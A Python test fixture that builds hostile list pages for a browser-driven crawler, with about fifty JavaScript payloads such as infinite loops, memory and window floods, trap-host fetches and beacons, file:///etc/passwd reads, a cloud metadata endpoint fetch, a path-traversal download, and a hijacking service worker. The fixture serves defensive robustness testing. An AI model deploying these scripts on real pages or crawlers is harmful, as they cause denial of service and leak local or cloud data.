"""Hostile pages for a browser: each is the list of a portal that is looked at in one."""

from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.inputs import HostilePortal
from tests.hostile.pages import LIST, OWN, page, rows

SCRIPTS = {
    "endless loop": "while(1){}",
    "alerts": "for(;;){alert(1)}",
    "questions": "for(;;){confirm('x');prompt('y')}",
    "before unload": "onbeforeunload=()=>'stay';location.reload()",
    "windows": "for(let i=0;i<50;i++)open('{trap}/w'+i)",
    "window of itself": "open(location.href)",
    "fetch": "fetch('{trap}/f');fetch('{trap}/f',{mode:'no-cors'})",
    "file": "fetch('file:///etc/passwd');location='file:///etc/passwd'",
    "file frame": "document.body.innerHTML+='<iframe src=\"file:///etc/passwd\"></iframe>'",
    "socket": "new WebSocket('{trap}/s'.replace('http','ws'))",
    "beacon": "navigator.sendBeacon('{trap}/b','x')",
    "events": "new EventSource('{trap}/e')",
    "elsewhere": "location='{trap}/l'",
    "elsewhere, late": "setTimeout(()=>{location='{trap}/l'},50)",
    "metadata": "fetch('http://169.254.169.254/latest/meta-data/',{mode:'no-cors'})",
    "public host": "fetch('http://www.example.com/',{mode:'no-cors'});new Image().src='https://www.example.com/x.png'",
    "picture": "new Image().src='{trap}/i'",
    "style": "document.head.innerHTML+='<style>@import url({trap}/c);body{background:url({trap}/d)}</style>'",
    "hints": 'document.head.innerHTML+=\'<link rel=preconnect href="{trap}"><link rel=dns-prefetch href="//a.example.com"><link rel=prefetch href="{trap}/p"><link rel=prerender href="{trap}/q">\'',
    "form": "document.body.innerHTML+='<form id=f method=post action=\"{trap}/o\"><input name=a></form>';f.submit()",
    "frame": "document.body.innerHTML+='<iframe src=\"{trap}/r\"></iframe>'",
    "frames": "for(;;)document.body.appendChild(document.createElement('iframe'))",
    "service worker": "navigator.serviceWorker.register('/sw.js')",
    "workers": "for(;;)new Worker(URL.createObjectURL(new Blob(['for(;;);'])))",
    "worker that fetches": "new Worker(URL.createObjectURL(new Blob([\"fetch('{trap}/k')\"])))",
    "shared worker": "new SharedWorker('data:text/javascript,fetch(\"{trap}/h\")')",
    "calls between peers": "let p=new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:3478'},{urls:'stun:stun.example.com'},{urls:'turn:{host}?transport=tcp',username:'a',credential:'b'}]});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))",
    "memory": "let a=[];for(;;)a.push(new Uint8Array(1e8).fill(1))",
    "text without end": "for(;;)document.write('<p>'+'x'.repeat(1e6))",
    "reload": "location.reload()",
    "history": "for(;;)history.pushState(0,0,'?'+Math.random())",
    "download": "let a=document.createElement('a');a.href='data:application/octet-stream,x';a.download='../../hostile-owned';a.click()",
    "downloads": "for(let i=0;i<50;i++){let a=document.createElement('a');a.href='/nb/1.html';a.download=i;a.click()}",
    "print": "for(;;)print()",
    "rights": "navigator.geolocation.getCurrentPosition(()=>0);Notification.requestPermission();navigator.clipboard.readText();navigator.mediaDevices.getUserMedia({video:1})",
    "full screen": "document.documentElement.requestFullscreen();document.body.requestPointerLock()",
    "other schemes": "for(let s of ['mailto:a@example.com','intent://x','ms-word:x','chrome://crash','about:crash','view-source:/','javascript:1','blob:x','gopher://127.0.0.1/'])try{location=s}catch{}",
    "time stands": "Date.now=()=>0;performance.now=()=>0;setTimeout=()=>0;requestAnimationFrame=()=>0",
    "our own words": "window.__playwright={};Object.defineProperty(document,'title',{get(){throw 1}});Array.prototype.map=()=>{throw 1};JSON.stringify=()=>{throw 1};Promise=null",
    "no document": "document.documentElement.remove()",
    "document that grows": "setInterval(()=>document.body.append('x'.repeat(1e5)),1)",
    "rows that grow": "setInterval(()=>document.querySelector('ul').innerHTML+='<li><a href=\"x'+Math.random()+'.html\">新通知</a></li>',20)",
    "next without end": "document.body.innerHTML+='<a href=\"javascript:n()\">下一页</a>';window.n=()=>{document.querySelector('ul').innerHTML='<li><a href=\"'+Math.random()+'.html\">通知</a></li>'}",
    "next that leaves": "document.body.innerHTML+='<a href=\"#\" onclick=\"location=\\'{trap}/n\\'\">下一页</a>'",
    "next that opens": "document.body.innerHTML+='<a href=\"{trap}/t\" target=_blank>下一页</a>'",
    "parts": "WebAssembly.compile(new Uint8Array(1e8)).catch(()=>0);new OffscreenCanvas(65535,65535).getContext('2d')",
    "speech and sound": "speechSynthesis.speak(new SpeechSynthesisUtterance('x'));new AudioContext()",
    "storage": "for(;;)localStorage[Math.random()]='x'.repeat(1e6)",
    "pattern": "/(a+)+$/.test('a'.repeat(60)+'!')",
}


def scripts() -> Iterator[HostilePortal]:
    for what, script in SCRIPTS.items():
        answers = {
            LIST: rows(OWN, f"<script>{script}</script>"),
            "/sw.js": page(
                b"onfetch=e=>e.respondWith(new Response('owned'));fetch('{trap}/sw')",
                kind=b"text/javascript",
            ),
        }
        yield HostilePortal(
            f"script: {what}", f"a list with a script: {what}", answers, in_browser=True
        )
